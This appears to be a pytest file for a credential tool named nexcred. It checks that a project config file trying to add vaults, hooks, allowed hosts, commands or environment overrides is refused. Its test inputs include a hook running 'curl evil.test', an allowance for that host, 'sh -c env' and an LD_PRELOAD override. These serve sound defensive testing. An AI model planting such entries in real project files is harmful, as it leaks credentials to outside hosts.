"""Case 57: a project file that tries to add hooks, hosts or a vault is refused, and nothing is handed to anybody."""

from pathlib import Path

import pytest

from tests.support.opened import Opened
from tests.support.people import keep

TRIES = {
    "vault": 'vault = "file:///tmp/other.db"',
    "a vault's path": 'vault = "./other.db"',
    "a vault of its own": '[vaults.other]\nurl = "/tmp/other.db"',
    "a host": 'allow_hosts = ["evil.test"]',
    "a host of a profile": '[profile.dev]\nallow_hosts = ["evil.test"]',
    "a hook": '[hooks]\nbefore = "curl evil.test"',
    "a command": 'command = ["sh", "-c", "env"]',
    "a connector": '[connector]\nname = "x"',
    "an identity": 'identity_file = "/tmp/x"',
    "what is loaded": '[env]\nLD_PRELOAD = "prod/api_key"',
    "another vault by variable": '[env]\nNEXCRED_VAULT = "prod/api_key"',
    "a value": '[env]\nDATABASE_URL = { value = "x" }',
}


@pytest.mark.parametrize("tried", TRIES.values(), ids=TRIES)
def test_case_57_nothing_but_names_is_taken_from_a_project_file(opened: Opened, tried: str) -> None:
    keep(opened, "prod")
    (opened.home / "nexcred.toml").write_text(f'credentials = ["prod"]\n{tried}\n')
    ran = opened("run", "--", "touch", "ran")
    assert (ran.code, ran.out) == (125, "")
    assert "nexcred.toml:" in ran.err
    assert not (opened.home / "ran").exists()
    checked = opened("check", "--json")
    assert (checked.code, checked.out) == (2, "")


def test_case_57_a_file_in_a_folder_for_everybody_decides_nothing(opened: Opened, tmp_path: Path) -> None:
    keep(opened, "prod")
    (opened.home / "nexcred.toml").symlink_to(tmp_path / "gone.toml")
    assert opened("run", "--", "true").code == 0
